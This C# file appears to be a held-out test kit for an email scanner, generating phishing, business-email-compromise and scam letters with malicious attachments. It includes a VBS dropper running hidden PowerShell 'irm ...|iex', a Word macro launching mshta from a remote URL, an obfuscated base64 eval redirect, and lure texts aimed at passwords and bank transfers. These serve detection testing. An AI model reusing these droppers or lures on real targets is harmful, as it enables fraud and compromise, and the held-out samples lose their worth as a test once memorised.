namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Letters that want a click, a call, a transfer or a password.</summary>
public sealed class LetterThatBaits : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Your password expires today.eml", Letter.Build("""
Return-Path: <bounce@srv22.hosting-pool.example>
Received: from srv22.hosting-pool.example (srv22.hosting-pool.example [203.0.113.40]) by mx.contoso.example; Mon, 9 Nov 2026 06:12:44 +0000
Authentication-Results: mx.contoso.example; spf=fail smtp.mailfrom=hosting-pool.example; dkim=none; dmarc=fail header.from=contoso.example
From: "IT Helpdesk contoso.example" <helpdesk@contoso.example>
To: r.silva@contoso.example
Subject: Your password expires today - keep same password
Date: Mon, 9 Nov 2026 06:12:40 +0000
Message-ID: <0f2c@srv22.hosting-pool.example>
X-PHP-Originating-Script: 1001:mailer.php
""", """
<html><body><div style="font-family:Segoe UI;border:1px solid #ccc;padding:20px"><p>Hi r.silva,</p><p>The password to your mailbox <b>r.silva@contoso.example</b> expires <b>today</b>. You can keep using your current password.</p>
<p><a href="https://ipfs-gateway.example/ipfs/bafybeiexample/owa.html#r.silva@contoso.example" style="background:#0067b8;color:#fff;padding:10px 20px">Keep same password</a></p>
<p style="font-size:9px">If you ignore this message, your account will be locked and pending mails deleted. &copy; 2026 contoso.example Support</p></div></body></html>
""", true));
        yield return ("Dringende Ueberweisung.eml", Letter.Build("""
From: "Dr. Martin Vogel (Geschaeftsfuehrer)" <ceo.office.private77@freemail-box.example>
To: buchhaltung@muster-gmbh.example
Reply-To: m.vogel.direct@protonbox.example
Subject: Dringend / vertraulich
Date: Thu, 12 Nov 2026 08:02:11 +0100
Message-ID: <a7c1@freemail-box.example>
Importance: high
""", """
Guten Morgen Frau Lenz,

sind Sie gerade am Platz? Ich bin in einer Besprechung und kann nicht telefonieren. Wir müssen heute noch eine vertrauliche
Anzahlung über 48.750,00 EUR für die Übernahme in Portugal leisten. Bitte behandeln Sie das absolut diskret und sprechen
Sie mit niemandem darüber. Schicken Sie mir den aktuellen Kontostand, ich sende Ihnen dann IBAN und Verwendungszweck.

Nur per E-Mail antworten. Danke
Dr. Martin Vogel

Gesendet von meinem iPhone
""", false));
        yield return ("Order #GS-88213.eml", Letter.Build("""
From: "Geek Squad Renewal" <billing4421@gmail-sender.example>
To: undisclosed-recipients:;
Subject: Thank you for your order #GS-88213 - USD 389.99 auto debit
Date: Sat, 14 Nov 2026 21:40:02 -0500
Message-ID: <CAExample@mail.gmail-sender.example>
""", """
Dear Customer,

Your annual subscription GEEK TOTAL PROTECTION was renewed and $389.99 will be debited from your account within 24 hours.

   Invoice No : GS-88213        Payment : Auto Debit       Tenure : 3 Years

If you did not authorise this charge or want to CANCEL and claim a REFUND please call our
Billing Department immediately: +1 (888) 555-0117 (Toll Free)

Do not reply to this mail. Please keep AnyDesk ready on your computer for the refund form.
""", false));
        yield return ("RE_ RE_ Payment details.eml", Letter.Build("""
Return-Path: <sales@northwind-traders.example>
From: "Sofia Marino" <s.marino@northwlnd-traders.example>
To: "Accounts Payable" <ap@fabrikam.example>
Cc: "Lars Holm" <l.holm@northwlnd-traders.example>
Subject: RE: RE: Invoice 20417 - updated bank details
In-Reply-To: <5512@fabrikam.example>
References: <5509@northwind-traders.example> <5512@fabrikam.example>
Date: Tue, 17 Nov 2026 10:15:39 +0000
Message-ID: <9911@northwlnd-traders.example>
""", """
<div dir="ltr">Hi Karen,<br><br>Please note that our bank account is under annual audit and cannot receive funds. Kindly update our banking information and remit the outstanding balance of <b>EUR 61,240.00</b> for invoice 20417 to the new account today:<br><br>
Beneficiary: Northwind Traders Ltd<br>IBAN: XX00 0000 0000 0000 0000 00<br>SWIFT: XXXXXXXX<br><br>Kindly confirm once payment is released and do not use the old account. I am not reachable by phone this week.<br><br>Best,<br>Sofia
<blockquote>On Mon, 16 Nov 2026 Karen Wills &lt;ap@fabrikam.example&gt; wrote:<br>Hi Sofia, invoice 20417 is approved and scheduled for Wednesday.<br>Regards, Karen</blockquote></div>
""", true));
    }
}

/// <summary>Letters with a hostile attachment.</summary>
public sealed class LetterWithHostileAttachment : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Fwd_ Outstanding invoice.eml", Letter.Build("""
From: "Bayu Trading Accounts" <acct@bayu-trading.example>
To: info@tailspin.example
Subject: Fwd: Outstanding invoice / urgent
Date: Wed, 4 Nov 2026 03:11:58 +0700
Message-ID: <44a1@bayu-trading.example>
""", "Dear Sir/Madam,\n\nKindly find attached the outstanding invoice and confirm bank details for payment.\n\nBest regards\nMrs. Indah", false,
            ("Invoice_outstanding.pdf.gz", "application/gzip", InertFiles.Gzip(new PeBuilder().Importing("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "ResumeThread").Importing("advapi32.dll", "CryptDecrypt").Build()))));
        yield return ("Voice message from +44 20 7946 0018.eml", Letter.Build("""
From: "Voicemail" <voicemail@pbx-notify.example>
To: j.whitfield@northwind.example
Subject: =?utf-8?Q?=E2=99=AB_New_voice_message_(00:37)?=
Date: Fri, 6 Nov 2026 14:22:31 +0000
Message-ID: <vm37@pbx-notify.example>
""", "<p>You received a new voice message. Open the attachment <b>in your browser</b> to listen.</p>", true,
            ("VM_00-37.html", "text/html", Utf8($"<script>eval(decodeURIComponent(escape(atob('{Base64("location.replace('https://vm-play.office-sso.example/?u=j.whitfield@northwind.example')")}'))))</script>"))));
        yield return ("Avviso di pagamento.eml", Letter.Build("""
From: "Agenzia Riscossione" <avvisi@riscossione-avvisi.example>
To: amministrazione@wingtip.example
Subject: Avviso di pagamento n. 2026/118723
Date: Mon, 23 Nov 2026 09:00:00 +0100
Message-ID: <118723@riscossione-avvisi.example>
X-Priority: 1
""", "<html><body>Gentile contribuente,<br>in allegato la cartella esattoriale. <b>Password dell'archivio: 1187</b><br>Il mancato pagamento entro 3 giorni comporta il pignoramento.</body></html>", true,
            ("Cartella_118723.zip", "application/zip", InertFiles.Zip(("Cartella_118723.vbs", Dos("Set w=CreateObject(\"WScript.Shell\")\nw.Run \"powershell -w hidden -c irm https://cartella.riscossione-doc.example/c|iex\",0"))))));
        yield return ("Calendar update.eml", Letter.Build("""
From: "Conference Desk" <invite@event-desk.example>
To: p.hartmann@contoso-logistics.example
Subject: Updated invitation: Budget alignment @ Tue 1 Dec
Date: Fri, 27 Nov 2026 16:45:00 +0000
Message-ID: <cal9@event-desk.example>
""", "The organiser has updated the meeting. Please open the attached agenda and enable content.", false,
            ("invite.ics", "text/calendar", Dos("BEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:9@event-desk.example\nDTSTART:20261201T090000Z\nSUMMARY:Budget alignment\nDESCRIPTION:Join: https://teams-live.event-desk.example/signin?u=p.hartmann\nEND:VEVENT\nEND:VCALENDAR\n")),
            ("Agenda.docm", "application/vnd.ms-word.document.macroEnabled.12", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", "Private Sub Document_Open()\nCreateObject(\"Shell.Application\").ShellExecute \"mshta\", \"https://agenda.event-desk.example/a\", \"\", \"open\", 0\nEnd Sub")).Build())));
    }
}
